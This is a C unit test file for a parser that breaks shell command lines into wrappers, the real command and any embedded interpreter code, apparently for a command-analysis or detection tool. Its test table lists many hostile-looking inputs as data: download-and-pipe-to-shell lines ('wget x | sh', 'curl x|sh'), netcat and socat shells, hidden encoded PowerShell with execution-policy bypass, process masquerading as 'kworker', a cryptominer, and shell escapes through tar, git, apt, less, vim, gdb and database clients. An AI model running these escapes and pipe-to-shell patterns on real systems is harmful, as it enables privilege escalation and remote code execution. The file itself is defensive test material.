// SPDX-License-Identifier: GPL-3.0-or-later
#include "check.h"
#include "invocation.h"
#include "shell.h"

#define WORDS_MAX 32

/* A command line, and: wrappers > command language {program} file ... */
static const struct {
	const char *text, *want;
} rows[] = {
	{ "id -u", "id" },
	{ "/usr/bin/wget x", "wget" },
	{ "-bash", "bash sh stdin" },
	{ "", "none" },
	{ "sudo id", "sudo > id" },
	{ "sudo -u root id", "sudo > id" },
	{ "sudo -uroot -H id", "sudo > id" },
	{ "sudo --user=root id", "sudo > id" },
	{ "sudo --user root id", "sudo > id" },
	{ "sudo -n -- bash -c id", "sudo > bash sh {id}" },
	{ "sudo A=1 B=2 sh x.sh", "sudo > sh sh file x.sh" },
	{ "sudo -i", "sudo" },
	{ "sudo -l", "sudo" },
	{ "sudo", "sudo" },
	{ "sudo -u www-data python3 -c 'import pty'",
		"sudo > python3 python {import pty}" },
	{ "doas -u root id", "doas > id" },
	{ "env A=B C=D id", "env > id" },
	{ "env -i PATH=/bin sh -c id", "env > sh sh {id}" },
	{ "env -u X id", "env > id" },
	{ "env -S 'bash -c id'", "env sh {bash -c id}" },
	{ "env", "env" },
	{ "/usr/bin/env python3 -Ic 'print(1)'",
		"env > python3 python {print(1)}" },
	{ "env --chdir=/ id", "env > id" },
	{ "env --chdir / id", "env > id" },
	{ "nohup ./x -a", "nohup > x" },
	{ "timeout 5 curl x", "timeout > curl" },
	{ "timeout -s KILL -k 5 10 sh -c id", "timeout > sh sh {id}" },
	{ "timeout --signal=9 5s id", "timeout > id" },
	{ "nice -n 5 id", "nice > id" },
	{ "nice -5 id", "nice > id" },
	{ "nice id", "nice > id" },
	{ "ionice -c 3 id", "ionice > id" },
	{ "ionice -c3 -n7 id", "ionice > id" },
	{ "ionice -p 12", "ionice" },
	{ "chrt -f 99 id", "chrt > id" },
	{ "taskset -c 0 id", "taskset > id" },
	{ "setsid -f sh -c id", "setsid > sh sh {id}" },
	{ "stdbuf -oL -e 0 id", "stdbuf > id" },
	{ "stdbuf -o L id", "stdbuf > id" },
	{ "xargs id", "xargs > id" },
	{ "xargs -I {} sh -c 'echo {}'", "xargs > sh sh {echo {}}" },
	{ "xargs -i rm {}", "xargs > rm" },
	{ "xargs -0 -n1 -P 4 wget -q", "xargs > wget" },
	{ "xargs", "xargs" },
	{ "xargs -d '\\n' -a f id", "xargs > id" },
	{ "busybox wget http://x", "busybox > wget" },
	{ "busybox sh -c id", "busybox > sh sh {id}" },
	{ "busybox", "busybox" },
	{ "busybox --list", "busybox" },
	{ "toybox nc x", "toybox > nc" },
	{ "chroot /mnt sh -c id", "chroot > sh sh {id}" },
	{ "chroot /mnt", "chroot" },
	{ "chroot --userspec=a:b /mnt /bin/bash -i", "chroot > bash sh stdin" },
	{ "unshare -r -m sh", "unshare > sh sh stdin" },
	{ "unshare -Urm --propagation private sh -c id",
		"unshare > sh sh {id}" },
	{ "nsenter -t 1 -m -u -i -n bash", "nsenter > bash sh stdin" },
	{ "nsenter --target 1 --mount -- id", "nsenter > id" },
	{ "ssh host", "ssh" },
	{ "ssh root@host id -u", "ssh > id" },
	{ "ssh -p 22 -i k -o A=b host 'wget x | sh'", "ssh sh {wget x | sh}" },
	{ "ssh host wget http://x", "ssh > wget" },
	{ "ssh host 'a;' b c", "ssh sh {a; b c}" },
	{ "ssh -tt host sudo bash -c id", "ssh > sudo > bash sh {id}" },
	{ "su", "su" },
	{ "su -", "su" },
	{ "su - root", "su" },
	{ "su -c id", "su sh {id}" },
	{ "su -c 'curl x|sh' root", "su sh {curl x|sh}" },
	{ "su root -c id", "su sh {id}" },
	{ "su - user -s /bin/sh -c id", "su sh {id}" },
	{ "su --command=id root", "su sh {id}" },
	{ "su --command 'id -u'", "su sh {id -u}" },
	{ "runuser -u www -- php -r 1", "runuser > php php {1}" },
	{ "runuser -l www -c 'id -u'", "runuser sh {id -u}" },
	{ "sg docker -c 'id'", "sg sh {id}" },
	{ "script -qc 'sh -i' /dev/null", "script sh {sh -i}" },
	{ "script -q -c id x", "script sh {id}" },
	{ "script x", "script" },
	{ "script --command 'id' x", "script sh {id}" },
	{ "watch -n 1 id", "watch > id" },
	{ "watch 'ls | wc'", "watch sh {ls | wc}" },
	{ "watch -d -n1 'id;w'", "watch sh {id;w}" },
	{ "flock /tmp/l wget x", "flock > wget" },
	{ "flock -n /tmp/l -c 'wget x'", "flock sh {wget x}" },
	{ "flock -w 5 /tmp/l sh -c id", "flock > sh sh {id}" },
	{ "parallel -j 4 wget ::: a b", "parallel > wget" },
	{ "parallel 'curl {} | sh' ::: a", "parallel sh {curl {} | sh ::: a}" },
	{ "find . -name x -exec sh -c id \\;", "find > sh sh {id}" },
	{ "find / -perm -4000", "find" },
	{ "find . -execdir rm {} +", "find > rm" },
	{ "find -ok ls \\;", "find > ls" },
	{ "strace -f -o /tmp/o id", "strace > id" },
	{ "strace -p 12", "strace" },
	{ "ltrace -S id", "ltrace > id" },
	{ "time -p id", "time > id" },
	{ "/usr/bin/time -f %e -o x id", "time > id" },
	{ "command id", "command > id" },
	{ "command -v wget", "command" },
	{ "command -p sh", "command > sh sh stdin" },
	{ "exec id", "exec > id" },
	{ "exec -a kworker ./m", "exec > m" },
	{ "exec", "exec" },
	{ "builtin cd /", "builtin > cd" },
	{ "eval id", "eval sh {id}" },
	{ "eval 'wget x' '|' sh", "eval sh {wget x | sh}" },
	{ "eval", "eval" },
	{ "torsocks curl x", "torsocks > curl" },
	{ "proxychains4 -q nmap x", "proxychains4 > nmap" },
	{ "systemd-run --unit x --uid=0 id", "systemd-run > id" },
	{ "docker exec -it -u 0 c sh -c id", "docker > sh sh {id}" },
	{ "docker run x", "docker" },
	{ "kubectl exec p -it -- bash -c id", "kubectl > bash sh {id}" },
	{ "cpulimit -l 50 -- xmrig", "cpulimit > xmrig" },
	{ "sudo nohup setsid env A=1 timeout 9 nice bash -lc id",
		"sudo > nohup > setsid > env > timeout > nice > bash sh {id}" },
	{ "sudo sudo sudo sudo sudo sudo sudo sudo sudo id",
		"sudo > sudo > sudo > sudo > sudo > sudo > sudo > sudo > "
		"sudo" },
	{ "A=1 B=2 id", "id" },
	{ "A=1", "none" },
	{ "$unset wget x", "wget" },
	{ "$SUDO wget x", "wget" },
	{ "bash -c id", "bash sh {id}" },
	{ "bash -lc 'id -u' a b", "bash sh {id -u}" },
	{ "bash -ec id", "bash sh {id}" },
	{ "bash -c -e id", "bash sh {id}" },
	{ "bash -euxo pipefail -c id", "bash sh {id}" },
	{ "bash -o posix x.sh", "bash sh file x.sh" },
	{ "bash +x -c id", "bash sh {id}" },
	{ "bash --norc -c id", "bash sh {id}" },
	{ "bash --rcfile f -c id", "bash sh {id}" },
	{ "bash --login", "bash sh stdin" },
	{ "bash", "bash sh stdin" },
	{ "bash -i", "bash sh stdin" },
	{ "bash -s -- a", "bash sh stdin" },
	{ "sh -s a", "sh sh stdin" },
	{ "sh -", "sh sh stdin" },
	{ "sh - x.sh", "sh sh file x.sh" },
	{ "bash x.sh a", "bash sh file x.sh" },
	{ "bash -x /tmp/x", "bash sh file /tmp/x" },
	{ "sh -c -- id", "sh sh {id}" },
	{ "sh /dev/stdin a", "sh sh stdin" },
	{ "bash -c", "bash sh" },
	{ "dash -c id", "dash sh {id}" },
	{ "ash -c id", "ash sh {id}" },
	{ "zsh -c id", "zsh sh {id}" },
	{ "ksh -c id", "ksh sh {id}" },
	{ "fish -c id", "fish sh {id}" },
	{ "fish --command=id", "fish sh {id}" },
	{ "bash5.1 -c id", "bash5.1 sh {id}" },
	{ "python -c 'x'", "python python {x}" },
	{ "python3 -Ic x", "python3 python {x}" },
	{ "python3.11 -c x a", "python3.11 python {x}" },
	{ "python3 -cimport", "python3 python {import}" },
	{ "python2 -u -c x", "python2 python {x}" },
	{ "python3 -W ignore -c x", "python3 python {x}" },
	{ "python3 -", "python3 python stdin" },
	{ "python3 - a", "python3 python stdin" },
	{ "python3", "python3 python stdin" },
	{ "python3 x.py", "python3 python file x.py" },
	{ "python3 -m http.server", "python3 python" },
	{ "python3 -mhttp.server 80", "python3 python" },
	{ "python3 -X dev x.py", "python3 python file x.py" },
	{ "pypy3 -c x", "pypy3 python {x}" },
	{ "perl -e x", "perl perl {x}" },
	{ "perl -lne x f", "perl perl {x}" },
	{ "perl -MIO -e x", "perl perl {x}" },
	{ "perl -MIO::Socket -we x", "perl perl {x}" },
	{ "perl -0777ne x", "perl perl {x}" },
	{ "perl -l012e x", "perl perl {x}" },
	{ "perl -ex", "perl perl {x}" },
	{ "perl -i.bak -pe x f", "perl perl {x}" },
	{ "perl -I lib -E x", "perl perl {x}" },
	{ "perl", "perl perl stdin" },
	{ "perl x.pl", "perl perl file x.pl" },
	{ "perl5.36.0 -e x", "perl5.36.0 perl {x}" },
	{ "perl -", "perl perl stdin" },
	{ "ruby -e x", "ruby ruby {x}" },
	{ "ruby -rsocket -e x", "ruby ruby {x}" },
	{ "ruby -r socket -e x", "ruby ruby {x}" },
	{ "ruby -ne x", "ruby ruby {x}" },
	{ "ruby", "ruby ruby stdin" },
	{ "php -r x", "php php {x}" },
	{ "php -d a=b -r x", "php php {x}" },
	{ "php x.php", "php php file x.php" },
	{ "php -f x", "php php file x" },
	{ "php", "php php stdin" },
	{ "php8.2 -r x", "php8.2 php {x}" },
	{ "php -S 0:80", "php php" },
	{ "php --run x", "php php {x}" },
	{ "node -e x", "node node {x}" },
	{ "node --eval x", "node node {x}" },
	{ "node --eval=x", "node node {x}" },
	{ "node -p x", "node node {x}" },
	{ "node -pe x", "node node {x}" },
	{ "node -r fs -e x", "node node {x}" },
	{ "node x.js", "node node file x.js" },
	{ "node", "node node stdin" },
	{ "nodejs -e x", "nodejs node {x}" },
	{ "node -", "node node stdin" },
	{ "lua -e x", "lua lua {x}" },
	{ "lua5.3 -e x", "lua5.3 lua {x}" },
	{ "lua -l socket -e x", "lua lua {x}" },
	{ "lua", "lua lua stdin" },
	{ "lua x.lua", "lua lua file x.lua" },
	{ "awk 'BEGIN{x}'", "awk awk {BEGIN{x}}" },
	{ "awk -F : -v a=b '{print}' f", "awk awk {{print}}" },
	{ "awk -F: '{x}'", "awk awk {{x}}" },
	{ "gawk -f x.awk f", "gawk awk file x.awk" },
	{ "mawk -- x", "mawk awk {x}" },
	{ "awk", "awk awk" },
	{ "pwsh -Command Get-X -a b", "pwsh powershell {Get-X -a b}" },
	{ "pwsh -c x", "pwsh powershell {x}" },
	{ "pwsh -EncodedCommand aQBk", "pwsh powershell {aQBk} encoded" },
	{ "pwsh -enc aQBk", "pwsh powershell {aQBk} encoded" },
	{ "pwsh -e aQBk", "pwsh powershell {aQBk} encoded" },
	{ "pwsh -NoP -NonI -W Hidden -Exec Bypass -Enc aQBk",
		"pwsh powershell {aQBk} encoded" },
	{ "powershell.exe -nop -ep bypass -ec aQBk",
		"powershell.exe powershell {aQBk} encoded" },
	{ "pwsh -File x.ps1", "pwsh powershell file x.ps1" },
	{ "pwsh x.ps1", "pwsh powershell file x.ps1" },
	{ "pwsh /tmp/x.ps1 a", "pwsh powershell file /tmp/x.ps1" },
	{ "pwsh", "pwsh powershell stdin" },
	{ "pwsh -", "pwsh powershell stdin" },
	{ "pwsh -Command -", "pwsh powershell stdin" },
	{ "pwsh -ExecutionPolicy Bypass -Command id", "pwsh powershell {id}" },
	{ "pwsh --command id", "pwsh powershell {id}" },
	{ "pwsh -enc", "pwsh powershell stdin" },
	{ "powershell 'IEX x' y", "powershell powershell {IEX x y}" },
	{ "gawk -f x.awk -v a=b f", "gawk awk file x.awk" },
	{ "php -F f", "php php" },
	{ "nohup", "nohup" },
	{ "find . -exec", "find" },
	{ "ld-linux-x86-64.so.2 --library-path x /bin/sh -c id",
		"ld-linux-x86-64.so.2 > sh sh {id}" },
	{ "exec -c sh -c id", "exec > sh sh {id}" },
	{ "sh -c 'id' | x", "sh sh {id}" },
	{ "flock -n 9", "flock" },
	/* Programs that hand a text to a shell. */
	{ "ansible all -m shell -a 'id;ls'", "ansible sh {id;ls}" },
	{ "apt-get -o APT::Update::Pre-Invoke::='id' update",
		"apt-get sh {id}" },
	{ "apt -o Dpkg::Pre-Invoke::=id x", "apt sh {id}" },
	{ "apt-get -o Debug::NoLocking=1 update", "apt-get" },
	{ "expect -c 'spawn sh -c id'", "expect sh {sh -c id}" },
	{ "gdb -nx -ex 'shell id' -ex quit", "gdb sh {id}" },
	{ "gdb -ex run -ex '!id -u'", "gdb sh {id -u}" },
	{ "gdb -ex run ./a", "gdb" },
	{ "git -c alias.x='!id -u' x", "git sh {id -u}" },
	{ "git -c core.pager='id;true' log", "git sh {id;true}" },
	{ "git -c core.sshCommand=id fetch", "git sh {id}" },
	{ "git -c user.name=id commit -m '!x'", "git" },
	{ "git clone --upload-pack='id;' /x", "git sh {id;}" },
	{ "less '+!id' /etc/x", "less sh {id}" },
	{ "less +100 x", "less" },
	{ "lftp -c '!id'", "lftp sh {id}" },
	{ "lftp -e 'open h; shell id -u'", "lftp sh {id -u}" },
	{ "mail --exec='!id'", "mail sh {id}" },
	{ "man -P 'sh -c id' man", "man sh {sh -c id}" },
	{ "man -P less man", "man" },
	{ "mysql -uroot -pe -e '\\! id'", "mysql sh {id}" },
	{ "mysql -e'use x; SYSTEM id -u'", "mysql sh {id -u}" },
	{ "mysql -e'\\! cat /e'", "mysql sh {cat /e}" },
	{ "mariadb --execute='\\!id'", "mariadb sh {id}" },
	{ "mysql -e 'select system from x'", "mysql" },
	{ "ncat -lp 1 -e 'sh -c id'", "ncat sh {sh -c id}" },
	{ "ncat --sh-exec 'id;ls' h 1", "ncat sh {id;ls}" },
	{ "nc -e /bin/sh h 1", "nc" },
	{ "psql -U p -c '\\! id'", "psql sh {id}" },
	{ "psql -c 'select 1'", "psql" },
	{ "rpm -E '%(id -u)'", "rpm sh {id -u)}" },
	{ "rpm -E '%{_arch}'", "rpm" },
	{ "rsync -avze 'sh -c id' x h:", "rsync sh {sh -c id}" },
	{ "rsync -e ssh x h:", "rsync" },
	{ "socat - system:'id;ls'", "socat sh {id;ls}" },
	{ "socat exec:'sh -c id' tcp:h:1", "socat sh {sh -c id}" },
	{ "socat - tcp:h:1", "socat" },
	{ "split --filter='sh -c id' x", "split sh {sh -c id}" },
	{ "sqlite3 /dev/null '.shell id'", "sqlite3 sh {id}" },
	{ "sqlite3 x -cmd '.system id -u' .quit", "sqlite3 sh {id -u}" },
	{ "sqlite3 x 'select 1'", "sqlite3" },
	{ "ssh -o ProxyCommand='id;ls' h", "ssh sh {id;ls}" },
	{ "scp -oproxycommand=id x h:", "scp sh {id}" },
	{ "sftp -o LogLevel=quiet h", "sftp" },
	{ "tar cf x y --checkpoint=1 --checkpoint-action=exec='id -u'",
		"tar sh {id -u}" },
	{ "tar -I 'sh -c id' -xf x", "tar sh {sh -c id}" },
	{ "tar --use-compress-program zstd -xf x", "tar" },
	{ "tar --checkpoint-action=dot -cf x y", "tar" },
	{ "vim -c ':!id' -c q", "vim sh {id}" },
	{ "ex '+!id -u' x", "ex sh {id -u}" },
	{ "vi +10 x", "vi" },
	{ "zip x y -T -TT 'sh #'", "zip sh {sh #}" },
	{ "sudo mysql -e '\\! id'", "sudo > mysql sh {id}" },
	{ "mysql -e", "mysql" },
};

static void add_invocation(struct str *out, const struct bytes *argv, size_t n,
	const struct invocation *inv)
{
	static const char *const languages[] = { "", " sh", " python", " perl",
		" ruby", " php", " node", " lua", " awk", " powershell" };

	for (size_t i = 0; i < inv->n_wrappers; i++) {
		str_addb(out, invocation_base(argv[inv->wrappers[i]]));
		str_addz(out, " > ");
	}
	str_addb(out, inv->command < n ? inv->name : BYTES("none"));
	str_addz(out, languages[inv->language]);
	for (size_t i = 0; inv->program < n && i < inv->program_n; i++) {
		struct bytes text = argv[inv->program + i];
		size_t skip = i ? 0 : inv->program_at;

		str_addz(out, i ? " " : " {");
		str_add(out, text.p + skip, text.len - skip);
	}
	str_addz(out, inv->program < n ? "}" : "");
	if (inv->script < n) {
		str_addz(out, " file ");
		str_addb(out, argv[inv->script]);
	}
	str_addz(out, inv->reads_stdin ? " stdin" : "");
	str_addz(out, inv->is_encoded ? " encoded" : "");
}

static void add_row(struct str *out, struct shell *sh, const char *text)
{
	const struct shell_command *c;
	struct bytes argv[WORDS_MAX];
	struct invocation inv;
	size_t n = 0;

	shell_read(sh, bytes_of(text));
	str_reset(out);
	if (shell_n_commands(sh)) {
		c = shell_command(sh, 0);
		for (; n < c->n && n < WORDS_MAX; n++)
			argv[n] = shell_word(sh, c->first + n)->text;
	}
	invocation_read(argv, n, &inv);
	add_invocation(out, argv, n, &inv);
}

static void test_rows(void)
{
	struct shell *sh = shell_new();
	struct str got;

	str_init(&got, 1 << 16);
	for (size_t i = 0; sh && i < sizeof(rows) / sizeof(rows[0]); i++) {
		check_start("%s", rows[i].text);
		add_row(&got, sh, rows[i].text);
		CHECK_Z(str_bytes(&got), rows[i].want);
	}
	str_fini(&got);
	shell_free(sh);
}

/* Bytes that a text cannot give: NUL, nothing at all. */
static void test_odd(void)
{
	const struct bytes argv[] = { { NULL, 0 }, BYTES("sudo"), BYTES("-u\0"),
		BYTES("-\0c"), BYTES("ba\0sh"), BYTES("-c") };
	struct invocation inv;

	check_start("nothing");
	invocation_read(NULL, 0, &inv);
	CHECK_EQ(inv.command, 0);
	CHECK_EQ(inv.program, 0);
	CHECK_EQ(inv.n_wrappers, 0);
	check_start("NUL");
	invocation_read(argv, 6, &inv);
	CHECK_EQ(inv.command, 4);
	CHECK_EQ(inv.n_wrappers, 1);
	CHECK_EQ(inv.wrappers[0], 1);
	CHECK_EQ(inv.language, INVOCATION_NONE);
	check_start("indexes");
	invocation_read((const struct bytes[]){ BYTES("a=1"), BYTES("env"),
				BYTES("python3"), BYTES("-Icx"), BYTES("y") },
		5, &inv);
	CHECK_EQ(inv.wrappers[0], 1);
	CHECK_EQ(inv.command, 2);
	CHECK_EQ(inv.program, 3);
	CHECK_EQ(inv.program_at, 3);
	CHECK_EQ(inv.program_n, 1);
	CHECK_EQ(inv.script, 5);
}

static void test_listed(void)
{
	static const struct {
		struct bytes word;
		bool is_listed;
	} lists[] = {
		{ BYTES("cat"), true },
		{ BYTES("dd"), true },
		{ BYTES("tee"), true },
		{ BYTES("ca"), false },
		{ BYTES("cats"), false },
		{ BYTES("cat dd"), false },
		{ BYTES(""), false },
		{ BYTES(" "), false },
		{ BYTES("cat\0"), false },
		{ BYTES("tee\0\0"), false },
		{ BYTES("\0"), false },
		{ { NULL, 0 }, false },
	};
	/* Of its own length, so that a sanitizer sees its end. */
	char *list = strdup("cat dd tee");

	for (size_t i = 0; list && i < sizeof(lists) / sizeof(lists[0]); i++) {
		check_start("listed: %zu", i);
		CHECK_EQ(invocation_is_listed(list, lists[i].word),
			lists[i].is_listed);
	}
	free(list);
}

int main(void)
{
	check.module = "shell_invocation";
	test_rows();
	test_odd();
	test_listed();
	return check_end();
}
